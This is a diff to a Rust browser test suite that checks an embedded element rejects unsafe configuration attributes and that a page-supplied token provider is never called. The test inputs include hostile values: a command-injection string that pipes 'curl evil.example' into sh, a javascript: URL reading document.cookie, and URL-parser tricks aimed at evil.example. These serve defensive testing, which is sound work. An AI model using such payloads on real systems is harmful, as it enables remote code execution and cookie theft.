@@ -4,7 +4,10 @@
 use lev_harness::seed::*;
 use lev_harness::*;
 
-async fn refused(attributes: &str, before_start: &str, attribute: &str) {
+/// Mounts the element with `attributes` (after `before_start` ran in the page) and checks that
+/// it shows the configuration error naming `attribute` and asks nothing. With `never_called`,
+/// the page's `window.calls` (counted by a function `before_start` installed) must still be 0.
+async fn refused(attributes: &str, before_start: &str, attribute: &str, never_called: bool) {
     let (env, _host) = embedded_env(attributes, before_start).await;
     env.sign_in(ADMIN).await;
     env.wait_rows(4).await;
@@ -38,6 +41,18 @@ async fn refused(attributes: &str, before_start: &str, attribute: &str) {
         "no fetch from the embedded tab"
     );
     assert!(env.all("tbody tr[data-key-id]").await.is_empty());
+    if never_called {
+        let calls = env
+            .browser
+            .execute("return window.calls;", vec![])
+            .await
+            .expect("read the page's count");
+        assert!(
+            calls.is_number(),
+            "the page's counting function is missing: window.calls is {calls}"
+        );
+        assert_eq!(calls, serde_json::json!(0), "the named function was called");
+    }
     env.close().await;
 }
 
@@ -47,6 +62,7 @@ async fn an_api_base_over_plain_http_to_another_host_is_refused() {
         r#"api-base="http://api.evil.example/api/external/v2""#,
         "",
         r#"api-base="http://api.evil.example/api/external/v2""#,
+        false,
     )
     .await;
 }
@@ -57,6 +73,7 @@ async fn a_sign_in_url_that_is_not_https_or_a_path_is_refused() {
         r#"sign-in-url="javascript:alert(document.cookie)""#,
         "",
         "sign-in-url=",
+        false,
     )
     .await;
 }
@@ -67,6 +84,7 @@ async fn a_token_provider_named_by_attribute_is_refused_and_never_called() {
         r#"token-provider="leakToken""#,
         "window.calls = 0; window.leakToken = () => { window.calls += 1; return 'x'; };",
         "token-provider=",
+        true,
     )
     .await;
 }
@@ -77,6 +95,7 @@ async fn an_origin_app_that_would_reach_a_shell_is_refused() {
         r#"origin-app='x" $(curl evil.example | sh) "'"#,
         "",
         "origin-app=",
+        false,
     )
     .await;
 }
@@ -84,5 +103,5 @@ async fn an_origin_app_that_would_reach_a_shell_is_refused() {
 #[tokio::test]
 async fn a_path_that_the_url_parser_reads_as_another_host_is_refused() {
     // A tab inside the path: every browser's parser drops it, leaving //evil.example/api.
-    refused("api-base=\"/\t/evil.example/api\"", "", "api-base=").await;
+    refused("api-base=\"/\t/evil.example/api\"", "", "api-base=", false).await;
 }
